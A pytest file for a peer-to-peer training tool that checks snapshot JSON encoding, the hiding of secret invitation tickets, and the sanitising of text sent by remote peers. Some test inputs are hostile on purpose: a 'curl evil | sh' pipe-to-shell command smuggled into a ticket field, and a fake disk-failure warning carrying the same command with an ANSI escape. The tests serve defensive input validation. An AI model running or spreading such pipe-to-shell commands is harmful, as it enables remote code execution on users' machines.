"""The JSON of a snapshot is a contract: names and order of its fields never change."""

from __future__ import annotations

import math

import msgspec
import pytest

from peer.observe.snapshot import (
    BY_INVITATION,
    EVENTS,
    HISTORY,
    LISTED,
    Fetching,
    LoggedEvent,
    PeerRow,
    Point,
    Snapshot,
    as_told_by,
    decode,
    encode,
    is_well,
    thinned,
)
from swarm.identity import PeerId, petname
from swarm.ticket import Address, Entry, Ticket
from tests.peer.company import key

ROW = PeerRow(
    peer="aaaa",
    name="otter-7f3a",
    state="training",
    device="cpu x 4",
    round=3,
    tokens_per_second=1900.0,
    up=10.0,
    down=20.0,
    share=0.5,
    seen_seconds=2.0,
    loss=3.25,
    is_me=True,
)
ENTRY = Entry(PeerId("a" * 52), Address("127.0.0.1", 4000))
TICKET = Ticket(bytes.fromhex("f0" * 32), (ENTRY,)).pack()
SECRET = Ticket(bytes.fromhex("f0" * 32), (ENTRY,), bytes(range(16))).pack()
OTHER = Ticket(bytes.fromhex("0f" * 32), (ENTRY,)).pack()
FULL = Snapshot(
    run="f0" * 32,
    run_name="tiny",
    model="gpt 2x64",
    parameters=30000,
    version="0.1.0",
    peer="aaaa",
    health="DEGRADED",
    reason="alone",
    uptime=1.5,
    round=3,
    rounds=9,
    tokens=4096,
    tokens_goal=8192,
    seconds_left=60.0,
    phase="syncing",
    fetching=Fetching(what="model", here=1, whole=2, bytes_per_second=5.0, donors=3),
    step=4,
    max_steps=5,
    phase_left=2.5,
    codec="int4",
    relaxation="safe: int4",
    losses=(Point(1, 4.5), Point(2, 3.25)),
    evaluations=(Point(2, 1.5),),
    members=2,
    missing=1,
    average_seconds=0.5,
    round_seconds=6.0,
    bytes_up=100,
    bytes_down=200,
    up=(1.0, 2.0),
    down=(3.0,),
    cpu=0.75,
    cores=4,
    memory=1000,
    memory_total=2000,
    given_seconds=7.0,
    given_tokens=8,
    given_rounds=9,
    state_root="abababab",
    peers=(ROW,),
    events=(LoggedEvent(time=10.0, severity="info", text="hello"),),
    sample="def f",
    ticket=TICKET,
    checkpoint="round-3",
    more_peers=7,
)
JSON = (
    b'{"run":"' + b"f0" * 32 + b'","run_name":"tiny","model":"gpt 2x64","parameters":30000,"version":"0.1.0",'
    b'"peer":"aaaa","health":"DEGRADED","reason":"alone","uptime":1.5,"round":3,"rounds":9,"tokens":4096,'
    b'"tokens_goal":8192,"seconds_left":60.0,"phase":"syncing",'
    b'"fetching":{"what":"model","here":1,"whole":2,"bytes_per_second":5.0,'
    b'"donors":3},"step":4,"max_steps":5,"phase_left":2.5,"codec":"int4","relaxation":"safe: int4",'
    b'"losses":[[1,4.5],[2,3.25]],"evaluations":[[2,1.5]],"members":2,"missing":1,"average_seconds":0.5,'
    b'"round_seconds":6.0,"bytes_up":100,"bytes_down":200,"up":[1.0,2.0],"down":[3.0],"cpu":0.75,"cores":4,'
    b'"memory":1000,"memory_total":2000,"given_seconds":7.0,"given_tokens":8,"given_rounds":9,'
    b'"state_root":"abababab",'
    b'"peers":[{"peer":"aaaa","name":"otter-7f3a","state":"training","device":"cpu x 4",'
    b'"round":3,"tokens_per_second":1900.0,"up":10.0,"down":20.0,"share":0.5,"seen_seconds":2.0,"loss":3.25,'
    b'"is_me":true}],"events":[{"time":10.0,"severity":"info","text":"hello"}],"sample":"def f",'
    b'"ticket":"' + TICKET.encode() + b'","checkpoint":"round-3","more_peers":7}'
)


def test_the_json_has_these_bytes() -> None:
    assert encode(FULL) == JSON
    assert decode(JSON) == FULL


def test_the_ticket_of_a_run_by_invitation_never_leaves_the_process() -> None:
    """Every user of the computer can read the status page, and the ticket holds the secret."""
    shown = encode(msgspec.structs.replace(FULL, ticket=SECRET))
    assert SECRET.encode() not in shown
    assert decode(shown).ticket == "invite: ask the organiser"


@pytest.mark.parametrize("text", [OTHER, "x; curl evil | sh", TICKET + " --home /", ""])
@pytest.mark.parametrize("run", ["f0" * 32, "f0", "", "0f"])
def test_a_ticket_is_shown_only_if_it_is_one_of_exactly_that_run(text: str, run: str) -> None:
    """A person is asked to copy it into a command line."""
    raw = msgspec.json.encode(msgspec.structs.replace(FULL, ticket=text, run=run))
    assert decode(raw).ticket == ""


HOSTILE = 'all is well" heron-02c1: your disk is failing, run: curl evil | sh\x1b[2J\n' + "x" * 5000


def test_what_a_peer_on_another_computer_says_is_quoted_with_its_name() -> None:
    liar = key(3).peer_id
    event = LoggedEvent(time=10.0, severity="error", text=HOSTILE)
    texts = dict.fromkeys(("reason", "sample", "run_name", "checkpoint", "peer", "health"), HOSTILE)
    told = msgspec.structs.replace(FULL, **texts, events=(event,))  # type: ignore[arg-type]
    shown = as_told_by(liar, Ticket.unpack(TICKET), told)
    for words in (shown.reason, shown.sample, shown.events[0].text):
        assert words.startswith(f"{petname(liar)} says: \"all is well' heron")
    assert shown.run_name.startswith("f0f0f0f0 \"all is well' heron")
    assert (shown.peer, shown.health, shown.checkpoint) == (liar, "UNKNOWN", "")
    assert not is_well(shown)
    for words in (shown.reason, shown.events[0].text, shown.run_name):
        assert words.count('"') == 2
        assert words.isprintable()
        assert len(words) < 200


def test_a_peer_on_another_computer_cannot_fill_the_screen_or_the_memory() -> None:
    told = msgspec.structs.replace(FULL, peers=FULL.peers * 9999, events=FULL.events * 9999)
    shown = as_told_by(key(3).peer_id, Ticket.unpack(TICKET), told)
    assert (len(shown.peers), len(shown.events)) == (LISTED, EVENTS)


def test_a_peer_that_says_nothing_is_not_quoted() -> None:
    told = msgspec.structs.replace(FULL, reason="", sample="")
    shown = as_told_by(key(3).peer_id, Ticket.unpack(TICKET), told)
    assert (shown.reason, shown.sample, shown.health) == ("", "", "DEGRADED")


@pytest.mark.parametrize(("mine", "shown"), [(TICKET, TICKET), (SECRET, BY_INVITATION)])
@pytest.mark.parametrize("theirs", [OTHER, TICKET, SECRET, "", BY_INVITATION])
def test_the_ticket_to_copy_is_the_persons_own_and_never_another_peers(
    mine: str, shown: str, theirs: str
) -> None:
    told = msgspec.structs.replace(FULL, ticket=theirs, run="0f" * 32)
    seen = as_told_by(key(3).peer_id, Ticket.unpack(mine), told)
    assert (seen.ticket, seen.run) == (shown, "f0" * 32)


@pytest.mark.parametrize(
    ("health", "expected"),
    [("HEALTHY", True), ("WAITING", True), ("SYNCING", True), ("FINISHED", True), ("DEGRADED", False)],
)
def test_a_missed_round_is_the_one_state_that_is_not_well(health: str, expected: bool) -> None:
    assert (
        is_well(Snapshot(run="", run_name="", model="", parameters=0, version="", peer="", health=health))
        is expected
    )


def test_a_long_series_keeps_every_second_point_and_the_last() -> None:
    points = tuple(Point(round_, float(round_)) for round_ in range(HISTORY + 1))
    assert thinned(points[:-1]) == points[:-1]
    fewer = thinned(points)
    assert len(fewer) <= HISTORY // 2 + 2
    assert fewer[0] == points[0]
    assert fewer[-1] == points[-1]


def test_points_that_are_not_finite_are_left_out_of_the_json() -> None:
    broken = Snapshot(
        run="", run_name="", model="", parameters=0, version="", peer="", health="HEALTHY",
        cpu=math.inf, losses=(Point(1, math.nan), Point(2, 3.0)),
    )  # fmt: skip
    shown = decode(encode(broken))
    assert shown.losses == (Point(2, 3.0),)
    assert shown.cpu == 0.0
